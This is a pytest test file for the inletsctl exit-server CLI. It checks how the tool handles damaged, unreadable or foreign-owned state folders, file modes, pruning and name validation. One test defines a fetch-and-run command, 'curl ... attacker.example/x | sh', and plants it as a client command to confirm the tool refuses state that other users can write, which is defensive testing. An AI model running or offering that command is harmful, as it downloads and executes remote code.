"""Local state that cannot be used (a server.json cut short, emptied or edited) is shown, explained and removable:
it never breaks ``list`` for the other exit servers, and ``delete NAME`` clears it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from helpers.prov_support import free_port, no_traceback, one_line_error, run_cli, run_inletsctl

FIFO = b"(a FIFO)"
DAMAGED = {  # folder -> (server.json bytes or None for none, what the messages say)
    "empty-object": (b"{}", "server.json names no exit server"),
    "cut-short": (b'{"name": "cut-sh', "server.json is not valid JSON, cut short or edited"),
    "not-text": (b"\xff\xfe\x00{", "server.json is not valid JSON"),
    "a-list": (b"[]", "server.json holds no JSON object"),
    "no-provider": (b'{"name": "no-provider", "control_port": 8123}', "server.json names no provider"),
    "bad-expiry": (b'{"name": "bad-expiry", "provider": "local", "control_port": 8123, "expires_at": "2030-13-01T00:00:00Z"}',
                   "server.json has an expiry that is not a UTC time"),
    "a-fifo": (FIFO, "server.json cannot be read (not a regular file)"),  # list waited on it forever
}
#: not shown by list (a folder create made under 10 s ago looks the same, and other keys are optional there)
UNLISTED = {"missing": (None, "server.json is missing"),
            "no-port": (b'{"name": "no-port", "provider": "local"}', "server.json has no control port"),
            "true-port": (b'{"name": "true-port", "provider": "local", "control_port": true}',
                          "server.json has no control port")}


@pytest.fixture
def state(tmp_path: Path) -> Path:
    root = tmp_path / "state"
    for name, (content, _) in (DAMAGED | UNLISTED).items():
        (root / name).mkdir(parents=True)
        (root / name / "token").write_text("t\n")
        if content == FIFO:
            os.mkfifo(root / name / "server.json")
        elif content is not None:
            (root / name / "server.json").write_bytes(content)
    return root


def test_list_shows_damaged_folders_beside_a_working_exit_server(state: Path, capsys) -> None:
    created = run_cli(capsys, "create", "works", "--ports", str(free_port("127.0.0.2")), "--state-dir", str(state))
    assert created.code == 0, created.err
    try:
        listed = run_cli(capsys, "list", "--json", "--state-dir", str(state))
        assert listed.code == 0, listed.err
        rows = {row["name"]: row for row in listed.json()["servers"]}
        assert sorted(row["name"] for row in listed.json()["servers"]) == sorted(["works", *DAMAGED, "no-port", "true-port"])
        assert rows["no-port"]["where"] == "local state only"
        assert rows["works"]["status"] == "active" and rows["works"]["where"] == "both"
        for name, (_, why) in DAMAGED.items():
            assert (rows[name]["status"], rows[name]["where"]) == ("damaged", "local state (damaged)"), rows[name]
            note = next(n for n in listed.json()["notes"] if n.startswith(f"{name}: "))
            assert why in note and f"remove it with: inletsctl delete {name} --state-dir {state}" in note, note
        table = run_cli(capsys, "list", "--state-dir", str(state))
        assert table.code == 0 and "works" in table.out and table.out.count(" damaged ") == len(DAMAGED), table.out
        no_traceback(table)
    finally:
        assert run_cli(capsys, "delete", "works", "--state-dir", str(state)).code == 0


def test_prune_goes_on_past_damaged_state_and_deletes_what_expired(state: Path, capsys) -> None:
    """An expiry that is no time (hand-edited) ended `list --prune`, run from cron, in a traceback, so no expired
    exit server was deleted any more."""
    expired = state / "expired"
    expired.mkdir()
    (expired / "server.json").write_text(json.dumps({"name": "expired", "provider": "local", "id": "999999999",
                                                     "control_port": 8123, "expires_at": "2020-01-01T00:00:00Z"}))
    pruned = run_cli(capsys, "list", "--prune", "--json", "--state-dir", str(state))
    assert pruned.code == 0, pruned.err
    assert not expired.exists() and any(line.startswith("expired was already gone") for line in pruned.json()["pruned"])
    assert (state / "bad-expiry").exists()


def test_prune_that_cannot_delete_an_expired_server_fails(tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch) -> None:
    """It printed 'could not delete' and exited 0: from cron, an expired droplet went on billing unnoticed."""
    for name in ("DIGITALOCEAN_ACCESS_TOKEN", "INLETS_ACCESS_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    state = tmp_path / "state"
    (state / "billing").mkdir(parents=True)
    (state / "billing" / "server.json").write_text(json.dumps(
        {"name": "billing", "provider": "digitalocean", "id": "123", "ip": "203.0.113.5", "control_port": 8123,
         "expires_at": "2020-01-01T00:00:00Z"}))
    pruned = run_cli(capsys, "list", "--prune", "--json", "--state-dir", str(state))
    one_line_error(pruned, "1 expired exit server could not be deleted", "inletsctl list --prune again")
    assert pruned.json()["pruned"][0].startswith("could not delete billing: no DigitalOcean access token")
    assert (state / "billing").exists()


def test_a_folder_a_create_left_without_server_json_is_listed_once_no_create_could_still_be_writing_it(
        state: Path, capsys) -> None:
    """A create killed between making its folder and writing server.json (kill -9, a power cut) left a folder that
    blocked the name (create: "already exists") while list said "no exit servers". A fresh one is a create under way."""
    (state / "cut-off").mkdir()
    (state / "cut-off" / "token").write_text("t\n")
    made = time.time() - 60
    os.utime(state / "cut-off", (made, made))
    listed = run_cli(capsys, "list", "--json", "--state-dir", str(state))
    rows = {row["name"]: row["status"] for row in listed.json()["servers"]}
    assert rows.get("cut-off") == "damaged" and "missing" not in rows, rows
    note = next(n for n in listed.json()["notes"] if n.startswith("cut-off: "))
    assert "server.json is missing" in note and "remove it with: inletsctl delete cut-off" in note, note


@pytest.mark.parametrize("name", list(DAMAGED | UNLISTED))
def test_status_and_create_say_the_state_is_damaged_and_how_to_remove_it(name: str, state: Path, capsys) -> None:
    why = (DAMAGED | UNLISTED)[name][1]
    status = run_cli(capsys, "status", name, "--state-dir", str(state))
    line = one_line_error(status, f"the local state of {name!r} is damaged: {state / name / 'server.json'}", why,
                          f"remove it with: inletsctl delete {name} --state-dir {state}")
    assert "Error" not in line.removeprefix("inletsctl: error:") and "KeyError" not in line, line
    again = run_cli(capsys, "create", name, "--state-dir", str(state))
    one_line_error(again, f"an exit server named {name!r} already exists", f"or first: inletsctl delete {name}")


@pytest.mark.parametrize("name", [*DAMAGED, "missing"])
def test_delete_removes_a_damaged_folder_and_says_what_it_could_not_check(name: str, state: Path, capsys) -> None:
    deleted = run_cli(capsys, "delete", name, "--state-dir", str(state))
    assert deleted.code == 0, deleted.err
    assert deleted.out.startswith(f"removed the damaged local state of {name} ({state / name}: {(DAMAGED | UNLISTED)[name][1]}")
    assert "could not check whether its exit server or VM still runs: look with `inletsctl list --provider" in deleted.out
    assert not (state / name).exists() and all((state / other).is_dir() for other in DAMAGED if other != name)
    listed = run_cli(capsys, "list", "--json", "--state-dir", str(state))
    assert name not in {row["name"] for row in listed.json()["servers"]}


@pytest.mark.parametrize("name, args", [("no-port", []), ("cut-short", ["--provider", "local"])])
def test_delete_removes_state_the_provider_has_nothing_for(name: str, args: list[str], state: Path, capsys) -> None:
    """State whose create never got an id, or damaged state with --provider: nothing there, so the state goes."""
    deleted = run_cli(capsys, "delete", name, *args, "--state-dir", str(state))
    assert deleted.code == 0, deleted.err
    assert deleted.out.strip() == f"local has no exit server named {name}; removed its local state ({state / name})"
    assert not (state / name).exists()


@pytest.mark.parametrize("name", ["..", "../state", ".", "a/b", "demo\n"])
def test_a_name_that_is_not_one_folder_removes_nothing(name: str, state: Path, capsys) -> None:
    (state / "server.json").write_text(json.dumps({}))  # bait: the root itself looking damaged
    for command in ("delete", "status"):
        one_line_error(run_cli(capsys, command, name, "--state-dir", str(state)), f"invalid name {name!r}")
    assert all((state / other).is_dir() for other in DAMAGED)


def test_a_damaged_ssh_record_is_said_in_words(tmp_path: Path) -> None:
    from inlets_py.provisioner.errors import ProvisionError
    from inlets_py.provisioner.ssh_connect import SshOptions

    record = tmp_path / "edge" / "ssh.json"
    record.parent.mkdir()
    for content, why in ((b'{"user": "ro', "is not valid JSON, cut short or edited"),
                         (b"[1]", "is not what inletsctl writes there"),
                         (b'{"colour": "blue"}', "is not what inletsctl writes there")):
        record.write_bytes(content)
        with pytest.raises(ProvisionError) as info:
            SshOptions.load(record)
        assert str(info.value).startswith(f"{record} {why}; it says how to reach the exit server's host"), info.value
        assert "/opt/inlets/edge and /etc/inlets/edge" in str(info.value)  # its name, not a literal NAME


@pytest.mark.parametrize("content", [b'{"name": "elsewhere", "provider": "digitalocean", "id": "12345", "control_port": 8123}',
                                     b'{"name": "elsewhere", "provider": "digitalocean", "id": "12345"}'])
def test_delete_with_another_provider_keeps_the_state_of_a_server_it_cannot_see(content: bytes, state: Path,
                                                                               capsys) -> None:
    """The provider the state names may well still run the server: its state is what manages it."""
    (state / "elsewhere").mkdir()
    (state / "elsewhere" / "server.json").write_bytes(content)
    deleted = run_cli(capsys, "delete", "elsewhere", "--provider", "local", "--state-dir", str(state))
    one_line_error(deleted, "was made with --provider digitalocean: its state is kept")
    assert (state / "elsewhere" / "server.json").read_bytes() == content


@pytest.mark.parametrize("content", [b"[]", b"42", b'"text"', b'{"name": "runs'], ids=["list", "number", "string", "cut-short"])
def test_list_shows_a_running_server_whose_state_is_damaged(content: bytes, tmp_path: Path, capsys) -> None:
    """server.json edited into JSON that is no object is damaged state like one cut short: a row and a note, no crash."""
    state = tmp_path / "state"
    created = run_cli(capsys, "create", "runs", "--ports", str(free_port("127.0.0.2")), "--json", "--state-dir", str(state))
    assert created.code == 0, created.err
    pid = int(created.json()["id"])
    try:
        (state / "runs" / "server.json").write_bytes(content)
        listed = run_cli(capsys, "list", "--json", "--state-dir", str(state))
        assert listed.code == 0, listed.err
        rows = sorted((row["status"], row["where"], row["id"]) for row in listed.json()["servers"])
        assert rows == [("active", "local only", str(pid)), ("damaged", "local state (damaged)", "")], rows
        assert any(note.startswith("runs: damaged local state (server.json ") for note in listed.json()["notes"])
    finally:
        assert run_cli(capsys, "delete", "--provider", "local", "--id", str(pid), "--state-dir", str(state)).code == 0


@pytest.fixture
def as_a_user(tmp_path: Path) -> tuple[str, ...]:
    """A command prefix under which mode 000 stops inletsctl: the tests run as root, whom it does not stop,
    so root's override of file modes (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH) is dropped with setpriv."""
    if os.geteuid() != 0:
        return ()
    wrap = ("setpriv", "--inh-caps=-all", "--bounding-set=-dac_override,-dac_read_search", "--")
    probe = tmp_path / "probe"
    probe.write_text("secret")
    probe.chmod(0)
    if shutil.which("setpriv") is None or subprocess.run([*wrap, "cat", str(probe)], capture_output=True).returncode == 0:
        pytest.skip("running as root, and setpriv cannot drop root's override of file modes here")
    return wrap


def test_a_server_folder_this_user_cannot_read_is_shown_and_said_how_to_fix(as_a_user: tuple[str, ...],
                                                                            tmp_path: Path) -> None:
    """Mode 000 on one exit server's folder: list carries on with a row and a note, status and delete refuse in one
    line saying how to fix it, and delete never claims to have removed what it could not."""
    state, locked = tmp_path / "state", tmp_path / "state" / "locked"
    locked.mkdir(parents=True)
    (locked / "server.json").write_text(json.dumps({"name": "locked", "provider": "local", "control_port": 8123}))
    locked.chmod(0)
    why = f"{locked / 'server.json'} cannot be read (Permission denied); let this user read it (chmod -R u+rwX {locked})"
    try:
        listed = run_inletsctl("list", "--json", "--state-dir", str(state), wrap=as_a_user)
        assert listed.code == 0, listed.err
        assert [(row["name"], row["status"]) for row in listed.json()["servers"]] == [("locked", "damaged")]
        (note,) = listed.json()["notes"]
        assert "(chmod -R u+rwX" in note and f"or remove it with: inletsctl delete locked --state-dir {state}" in note
        one_line_error(run_inletsctl("status", "locked", "--state-dir", str(state), wrap=as_a_user),
                       f"the local state of 'locked' is damaged: {why}, or remove it with: inletsctl delete locked")
        one_line_error(run_inletsctl("delete", "locked", "--state-dir", str(state), wrap=as_a_user),
                       f"cannot remove {locked}: let this user change it (chmod -R u+rwX {locked}) and run the command again")
        assert locked.is_dir()
    finally:
        locked.chmod(0o700)


def test_a_state_folder_this_user_cannot_read_is_refused_in_one_line(as_a_user: tuple[str, ...], state: Path) -> None:
    state.chmod(0)
    try:
        for command in (["list"], ["status", "cut-short"], ["delete", "cut-short"]):
            one_line_error(run_inletsctl(*command, "--state-dir", str(state), wrap=as_a_user),
                           f"cannot read exit servers from {state}: Permission denied; let this user read it "
                           f"(chmod -R u+rwX {state}) or give --state-dir")
    finally:
        state.chmod(0o700)
    assert (state / "cut-short").is_dir()


def test_another_users_state_folder_is_refused_for_what_it_is(as_a_user: tuple[str, ...], tmp_path: Path) -> None:
    """Mode 777 but someone else's: create cannot make it private (only its owner can chmod it), and said that it
    could not write in the folder's parent."""
    if os.geteuid() != 0:
        pytest.skip("giving a folder to another user takes root")
    state = tmp_path / "theirs"
    state.mkdir()
    os.chown(state, 65534, 65534)
    state.chmod(0o777)
    wrap = (*as_a_user[:-2], as_a_user[-2] + ",-fowner", "--") if as_a_user else ()
    one_line_error(run_inletsctl("create", "x", "--state-dir", str(state), wrap=wrap),
                   f"cannot keep exit servers in {state}: it belongs to another user, and tokens are kept only where "
                   "no one else can read them (0700); give --state-dir")
    assert list(state.iterdir()) == []


def test_a_folder_every_user_shares_is_refused_not_made_private(tmp_path: Path) -> None:
    """--state-dir /tmp (sticky, 1777) was made 0700, locking every other user and service out of it."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    one_line_error(run_inletsctl("create", "x", "--state-dir", str(shared)),
                   f"cannot keep exit servers in {shared}: every user shares it (like /tmp), and making it private "
                   f"(0700) would lock them out; give --state-dir a folder of its own, e.g. {shared / 'inlets'}")
    assert shared.stat().st_mode & 0o7777 == 0o1777 and list(shared.iterdir()) == []


def test_a_state_root_this_user_cannot_change_is_the_folder_named_to_fix(as_a_user: tuple[str, ...],
                                                                         tmp_path: Path) -> None:
    """A root of mode 500: delete said to chmod the server's own folder, which changed nothing, and said it again."""
    state = tmp_path / "state"
    (state / "stuck").mkdir(parents=True)
    (state / "stuck" / "server.json").write_text(json.dumps({"name": "stuck", "provider": "local", "control_port": 8123}))
    state.chmod(0o500)
    try:
        one_line_error(run_inletsctl("delete", "stuck", "--state-dir", str(state), wrap=as_a_user),
                       f"cannot remove {state / 'stuck'}: let this user change it (chmod u+rwx {state}, the folder "
                       "holding it) and run the command again")
        assert (state / "stuck").is_dir()
    finally:
        state.chmod(0o700)


def _ssh_state(root: Path, **edit: object) -> Path:
    """A state folder of an ssh exit server named edge; ``edit`` changes its ssh.json."""
    (root / "edge").mkdir(parents=True)
    (root / "edge" / "server.json").write_text(json.dumps(
        {"name": "edge", "provider": "ssh", "id": "root@127.0.0.1:22/edge", "ip": "127.0.0.1", "control_port": 8123}))
    record = {"user": "root", "host": "127.0.0.1", "port": 22, "key_file": None, "fingerprint": None,
              "accept_new": False, "known_hosts": None, "supervisor": "plain", "remote_python": "python3",
              "data_addr": None} | edit
    (root / "edge" / "ssh.json").write_text(json.dumps(record))
    return root / "edge"


@pytest.mark.parametrize("edit", [{"host": 5}, {"port": None}, {"port": "22"}, {"user": ""}, {"accept_new": "yes"}])
def test_a_hand_edited_ssh_record_of_the_wrong_type_is_one_line(edit: dict[str, object], tmp_path: Path, capsys) -> None:
    """A field of the wrong type in ssh.json reached paramiko: a TypeError traceback ({"host": 5}), or a
    connection to 127.0.0.1:None listed as a second exit server ({"port": null})."""
    root = tmp_path / "state"
    _ssh_state(root, **edit)
    field = next(iter(edit))
    one_line_error(run_cli(capsys, "status", "edge", "--state-dir", str(root)),
                   f'ssh.json holds a "{field}" that is not what inletsctl writes there')
    listed = run_cli(capsys, "list", "--state-dir", str(root))
    no_traceback(listed)
    assert sum("edge" in line for line in listed.out.splitlines()) == 1, listed.out



def test_a_missing_ssh_record_is_damaged_state_that_delete_removes_saying_what_it_could_not_check(
        tmp_path: Path, capsys) -> None:
    """No ssh.json was taken for an exit server gone from its host (status 'gone', delete 'already gone'), though
    nothing had asked the host; delete removed the token and CA of a server still running."""
    root = tmp_path / "state"
    folder = _ssh_state(root)
    (folder / "ssh.json").unlink()
    status = run_cli(capsys, "status", "edge", "--json", "--state-dir", str(root))
    assert status.code == 1 and status.json()["state"] == "damaged", status
    assert status.json()["error"].startswith(f"the local state of 'edge' is damaged: {folder / 'ssh.json'} is missing; "
                                             "put back a copy of it (it says how to reach root@127.0.0.1:22)"), status.out
    listed = run_cli(capsys, "list", "--json", "--provider", "ssh", "--state-dir", str(root))
    assert listed.code == 0 and [(r["name"], r["status"]) for r in listed.json()["servers"]] == [("edge", "damaged")]
    deleted = run_cli(capsys, "delete", "edge", "--state-dir", str(root))
    assert deleted.code == 0 and not folder.exists(), deleted
    assert deleted.out.startswith(f"removed the damaged local state of edge ({folder}: ssh.json is missing); inletsctl "
                                  "could not check whether its exit server still runs on root@127.0.0.1:22: if it does, "
                                  "stop it there"), deleted.out
    assert "already gone" not in deleted.out and "/opt/inlets/edge and /etc/inlets/edge" in deleted.out


def test_an_ssh_state_whose_create_never_reached_the_host_is_not_damaged(tmp_path: Path, capsys) -> None:
    """Ctrl-C before create connected: no ssh.json, no pinned key, no id; nothing on any host, so delete just
    removes the state (and --provider ssh says the same of a damaged ssh.json: nothing else leads to its host)."""
    root = tmp_path / "state"
    folder = _ssh_state(root)
    (folder / "server.json").write_text(json.dumps({"name": "edge", "provider": "ssh", "id": None, "control_port": 8123}))
    (folder / "ssh.json").unlink()
    deleted = run_cli(capsys, "delete", "edge", "--state-dir", str(root))
    assert deleted.code == 0 and not folder.exists(), deleted
    assert deleted.out.strip() == f"ssh has no exit server named edge; removed its local state ({folder})"
    folder = _ssh_state(root)
    (folder / "ssh.json").write_text("[]")
    deleted = run_cli(capsys, "delete", "edge", "--provider", "ssh", "--state-dir", str(root))
    assert deleted.code == 0 and not folder.exists(), deleted
    assert deleted.out.startswith("removed the damaged local state of edge"), deleted.out


def test_status_of_a_server_whose_token_file_went_says_what_to_do(tmp_path: Path, capsys) -> None:
    """The token file is the only copy of the token: status said "cannot read token file ...: No such file or
    directory" and no more, where other damaged state names the command that mends it."""
    state = tmp_path / "state"
    created = run_cli(capsys, "create", "lost", "--ports", str(free_port("127.0.0.2")), "--state-dir", str(state))
    assert created.code == 0, created.err
    try:
        (state / "lost" / "token").unlink()
        status = run_cli(capsys, "status", "lost", "--state-dir", str(state))
        one_line_error(status, f"cannot read token file {state / 'lost' / 'token'}: No such file or directory",
                       "put it back", f"no client can connect: inletsctl delete lost --state-dir {state}")
    finally:
        assert run_cli(capsys, "delete", "lost", "--state-dir", str(state)).code == 0


def _aged(folder: Path) -> Path:
    """``folder`` as if made an hour ago: no create could still be writing it."""
    made = time.time() - 3600
    os.utime(folder, (made, made))
    return folder


def test_a_folder_holding_no_file_of_inletsctls_is_no_exit_server_and_delete_never_removes_it(
        tmp_path: Path, capsys) -> None:
    """--state-dir given a folder of projects: every folder older than 10 s was listed as a damaged exit server, and
    `delete myapp`, as list advised, removed myapp/src/main.c with the rest of it; so was a --state-dir nested in the
    default one (work/w1: `delete work` took w1's token and key from under its running server)."""
    state = tmp_path / "projects"
    (state / "myapp" / "src").mkdir(parents=True)
    (state / "myapp" / "src" / "main.c").write_text("int main(void) { return 0; }\n")
    (state / "work" / "w1").mkdir(parents=True)  # a state root of its own: w1 is an exit server there, work is none
    for name in ("server.json", "token", "ca.crt"):
        (state / "work" / "w1" / name).write_text("kept\n")
    for name in ("myapp", "work"):
        _aged(state / name)
    listed = run_cli(capsys, "list", "--json", "--state-dir", str(state))
    assert listed.code == 0 and listed.json()["servers"] == [] and listed.json()["notes"] == [], listed
    for name in ("myapp", "work"):
        one_line_error(run_cli(capsys, "delete", name, "--state-dir", str(state)),
                       f"no exit server named {name!r} in {state}")
        status = run_cli(capsys, "status", name, "--json", "--state-dir", str(state))
        assert status.code == 1 and status.json()["state"] == "not_found", status
        one_line_error(run_cli(capsys, "create", name, "--state-dir", str(state)),
                       f"{state / name} is in the way of an exit server named {name!r}: it is a folder inletsctl did "
                       "not make", "move it away, or choose another name")
    assert (state / "myapp" / "src" / "main.c").read_text() == "int main(void) { return 0; }\n"
    assert sorted(p.name for p in (state / "work" / "w1").iterdir()) == ["ca.crt", "server.json", "token"]


def test_delete_of_damaged_state_removes_only_inletsctls_files_and_says_what_it_kept(state: Path, capsys) -> None:
    """Delete of damaged state was an rm -rf: a file of the user's put in the folder went with it."""
    folder = state / "missing"
    (folder / "notes.txt").write_text("mine\n")
    (folder / "backup").mkdir()
    (folder / "known_hosts").write_text("pinned\n")  # the ssh provider's
    (folder / ".token.0123456789abcdef.tmp").write_text("t\n")  # what a write cut short leaves
    _aged(folder)
    deleted = run_cli(capsys, "delete", "missing", "--state-dir", str(state))
    assert deleted.code == 0, deleted.err
    assert (f"removed the damaged local state of missing ({folder}: server.json is missing); kept {folder}: it also "
            "holds what inletsctl did not write there ('backup', 'notes.txt'); move that away, then remove the "
            "folder; inletsctl could not check") in deleted.out, deleted.out
    assert len(deleted.out.splitlines()) == 1, deleted.out
    assert sorted(p.name for p in folder.iterdir()) == ["backup", "notes.txt"]
    listed = run_cli(capsys, "list", "--json", "--state-dir", str(state))
    assert "missing" not in {row["name"] for row in listed.json()["servers"]}, listed.out


def test_every_file_a_provider_writes_in_a_state_folder_is_one_delete_removes() -> None:
    """A file a provider writes that ``state_files`` lacks would be kept by delete, its folder with it. Read from the
    providers' own source: every name a provider module joins onto a folder (``plan.state_dir / "server.log"``,
    ``state.dir / RECORD``), a literal or a constant of its module, but for the user's own (~/.aws)."""
    import ast
    import importlib
    import pkgutil

    from inlets_py.provisioner import providers
    from inlets_py.provisioner.providers import ec2_regions, local, ssh, vultr
    from inlets_py.provisioner.state import state_files

    joined: dict[str, str] = {}
    for found in pkgutil.iter_modules(providers.__path__):
        module = importlib.import_module(f"{providers.__name__}.{found.name}")
        for node in ast.walk(ast.parse(Path(str(module.__file__)).read_text())):
            if not (isinstance(node, ast.BinOp) and isinstance(node.op, ast.Div)):
                continue
            if ast.unparse(node.left).startswith("Path.home()"):
                continue
            right = node.right
            name = (right.value if isinstance(right, ast.Constant)
                    else getattr(module, right.id, None) if isinstance(right, ast.Name) else None)
            if isinstance(name, str):
                joined[name] = f"providers/{found.name}.py:{node.lineno}"
    assert {ssh.RECORD, ssh.PINNED, local.PID_FILE, ec2_regions.REGION_RECORD, vultr.MARKERS} <= joined.keys()
    assert {name: where for name, where in joined.items() if name not in state_files()} == {}


def test_a_state_root_that_exists_keeps_its_mode_and_one_made_is_private(tmp_path: Path, capsys) -> None:
    """An existing --state-dir (a folder of projects, 0755) was made 0700, even by a create that then failed."""
    given = tmp_path / "projects"
    (given / "taken").mkdir(parents=True)
    (given / "taken" / "token").write_text("t\n")
    given.chmod(0o755)
    one_line_error(run_cli(capsys, "create", "taken", "--state-dir", str(given)), "already exists")
    port = str(free_port("127.0.0.2"))
    created = run_cli(capsys, "create", "fresh", "--ports", port, "--state-dir", str(given))
    assert created.code == 0, created.err
    try:
        assert (given.stat().st_mode & 0o777, (given / "fresh").stat().st_mode & 0o777) == (0o755, 0o700)
    finally:
        assert run_cli(capsys, "delete", "fresh", "--state-dir", str(given)).code == 0
    made = tmp_path / "new" / "state"
    created = run_cli(capsys, "create", "fresh", "--ports", port, "--state-dir", str(made))
    assert created.code == 0, created.err
    try:
        assert made.stat().st_mode & 0o777 == 0o700
    finally:
        assert run_cli(capsys, "delete", "fresh", "--state-dir", str(made)).code == 0
    writable = tmp_path / "shared-by-a-group"
    writable.mkdir()
    writable.chmod(0o775)  # others could put a folder (their CA) in place of an exit server's
    one_line_error(run_cli(capsys, "create", "x", "--state-dir", str(writable)),
                   f"cannot keep exit servers in {writable}: other users may write in it (mode 0775)",
                   f"run chmod go-w {writable}")
    assert writable.stat().st_mode & 0o777 == 0o775 and list(writable.iterdir()) == []


ATTACKER = "curl -s http://attacker.example/x | sh"


def _plant(root: Path, name: str = "web") -> Path:
    """What another user put in a state root open to them: an exit server's folder whose client command is theirs."""
    folder = root / name
    folder.mkdir(parents=True)
    (folder / "server.json").write_text(json.dumps({
        "name": name, "provider": "local", "id": "1", "ip": "127.0.0.1", "mode": "tcp", "ports": [8080],
        "control_port": 1, "created_at": "2026-01-01T00:00:00Z", "client_command": ATTACKER}))
    (folder / "token").write_text("x\n")
    return folder


def test_list_status_and_delete_refuse_a_root_others_may_write_or_own(tmp_path: Path, capsys) -> None:
    """Only create refused a state root other users may write: list showed, and status --json printed, the exit
    server another user had put there (its client command theirs to choose), and delete acted on it."""
    root = tmp_path / "open"
    planted = _plant(root)
    root.chmod(0o777)
    for command in (("list",), ("list", "--json"), ("status", "web", "--json"), ("delete", "web")):
        result = run_cli(capsys, *command, "--state-dir", str(root))
        one_line_error(result, f"cannot read exit servers from {root}: other users may write in it (mode 0777)",
                       f"run chmod go-w {root}")
        assert "attacker" not in result.out + result.err, command
    assert (planted / "server.json").is_file()  # delete removed nothing
    if os.geteuid() != 0:
        return
    root.chmod(0o755)
    os.chown(root, 65534, 65534)
    for command in (("list",), ("status", "web", "--json"), ("delete", "web")):
        result = run_cli(capsys, *command, "--state-dir", str(root))
        one_line_error(result, f"cannot read exit servers from {root}: it belongs to another user")
        assert "attacker" not in result.out + result.err, command


def test_an_exit_servers_folder_another_user_owns_is_shown_damaged_never_used(tmp_path: Path, capsys) -> None:
    """A folder put in the root while it was open (the root made private since) is not inletsctl's: status printed
    its client command as the exit server's."""
    if os.geteuid() != 0:
        pytest.skip("giving a folder to another user takes root")
    root = tmp_path / "state"
    planted = _plant(root)
    root.chmod(0o700)
    for path in (planted, planted / "server.json", planted / "token"):
        os.chown(path, 65534, 65534)
    status = run_cli(capsys, "status", "web", "--json", "--state-dir", str(root))
    one_line_error(status, "the local state of 'web' is damaged", "is in a folder another user (uid 65534) made")
    assert "attacker" not in status.out + status.err
    listed = run_cli(capsys, "list", "--json", "--state-dir", str(root))
    assert listed.code == 0, listed.err
    assert [(row["name"], row["status"]) for row in listed.json()["servers"]] == [("web", "damaged")]
    assert "attacker" not in listed.out + listed.err


def test_the_parents_a_state_root_needs_are_made_private_whatever_the_umask(tmp_path: Path) -> None:
    """mkdir(parents=True) made ~/.config 0775 under umask 002; the XDG Base Directory spec asks 0700."""
    from inlets_py.provisioner.state_root import prepare_root

    old = os.umask(0o002)
    try:
        prepare_root(tmp_path / "home" / ".config" / "inletsctl")
    finally:
        os.umask(old)
    modes = [(tmp_path / part).stat().st_mode & 0o777 for part in ("home", "home/.config", "home/.config/inletsctl")]
    assert modes == [0o700, 0o700, 0o700]


def test_a_local_server_whose_folder_was_removed_is_found_by_status_and_delete_as_list_shows_it(
        tmp_path: Path, capsys) -> None:
    """rm -rf of a running server's folder: list showed it 'local only', but status said no such exit server and
    delete failed the same way unless given --provider local, the default."""
    state = tmp_path / "state"
    created = run_cli(capsys, "create", "d3", "--ports", str(free_port("127.0.0.2")), "--json",
                      "--state-dir", str(state))
    assert created.code == 0, created.err
    pid = created.json()["id"]
    try:
        shutil.rmtree(state / "d3")
        said = (f"exit server d3 runs on this machine (process {pid} running), but its local state ({state / 'd3'}) "
                f"is gone, and with it the token and CA that reach it: stop it with: inletsctl delete d3 --state-dir "
                f"{state}")
        listed = run_cli(capsys, "list", "--json", "--state-dir", str(state))
        assert [(r["name"], r["where"]) for r in listed.json()["servers"]] == [("d3", "local only")], listed.out
        assert listed.json()["notes"] == [said], listed.out
        status = run_cli(capsys, "status", "d3", "--json", "--state-dir", str(state))
        assert one_line_error(status, said) and status.json()["state"] == "damaged", status
        assert (status.json()["provider"], status.json()["id"]) == ("local", pid), status.out
        deleted = run_cli(capsys, "delete", "d3", "--state-dir", str(state))
        assert deleted.code == 0 and deleted.out.strip() == f"deleted d3 (local {pid})", deleted
    finally:
        run_cli(capsys, "delete", "--provider", "local", "--id", pid, "--state-dir", str(state))
    assert run_cli(capsys, "list", "--json", "--state-dir", str(state)).json()["servers"] == []


def test_a_name_a_local_server_whose_folder_was_removed_still_runs_under_is_not_reused(
        tmp_path: Path, capsys, monkeypatch) -> None:
    """rm -rf of a running server's folder, then create of its name: allowed, and list's note said to stop the first
    with `delete NAME`, which deleted the new server instead (and showed the new one's created_at for the first)."""
    from inlets_py.provisioner import create

    state = tmp_path / "state"
    flags = ["--state-dir", str(state), "--json", "--timeout", "30"]
    first = run_cli(capsys, "create", "o1", "--ports", str(free_port("127.0.0.2")), *flags)
    assert first.code == 0, first.err
    old, new = first.json()["id"], ""
    by_id = f"inletsctl delete --provider local --id {old} --state-dir {state}"
    try:
        shutil.rmtree(state / "o1")
        again = run_cli(capsys, "create", "o1", "--ports", str(free_port("127.0.0.2")), *flags)
        one_line_error(again, f"exit server o1 runs on this machine (process {old} running)", f"stop it with: {by_id}; "
                       "or choose another name")
        assert again.json()["state"] == "invalid" and not (state / "o1").exists(), again.out
        # an older inletsctl let it through: the note then names the id that stops the first, not `delete o1`
        monkeypatch.setattr(create, "_refuse_orphan", lambda opts, name: None)
        second = run_cli(capsys, "create", "o1", "--ports", str(free_port("127.0.0.2")), *flags)
        assert second.code == 0, second.err
        new = second.json()["id"]
        listed = run_cli(capsys, "list", "--json", "--state-dir", str(state)).json()
        rows = {r["id"]: (r["where"], r["created"]) for r in listed["servers"]}
        assert rows == {new: ("both", second.json()["created_at"]), old: ("local only", None)}, listed
        assert listed["notes"] == [f"exit server o1 runs on this machine (process {old} running), but its local state "
                                   f"({state / 'o1'}) is gone (the folder of that name now is another exit server's), "
                                   f"and with it the token and CA that reach it: stop it with: {by_id}"], listed
        stopped = run_cli(capsys, *by_id.split()[1:])
        assert stopped.code == 0 and stopped.out.strip() == f"deleted o1 (local {old})", stopped
        (row,) = run_cli(capsys, "list", "--json", "--state-dir", str(state)).json()["servers"]
        assert (row["id"], row["where"]) == (new, "both"), row
    finally:
        for pid in (old, new):
            if pid:
                run_cli(capsys, "delete", "--provider", "local", "--id", pid, "--state-dir", str(state))


def test_status_of_a_local_server_past_its_ttl_says_it_ended_then_not_that_it_crashed(tmp_path: Path, capsys) -> None:
    """--ttl ended the server as asked, and status called it a crash: "is not running (its process N has exited)"."""
    state = tmp_path / "state"
    created = run_cli(capsys, "create", "tt", "--ttl", "2s", "--ports", str(free_port("127.0.0.2")), "--json",
                      "--state-dir", str(state))
    assert created.code == 0, created.err
    expires = created.json()["expires_at"]
    try:
        deadline = time.monotonic() + 30
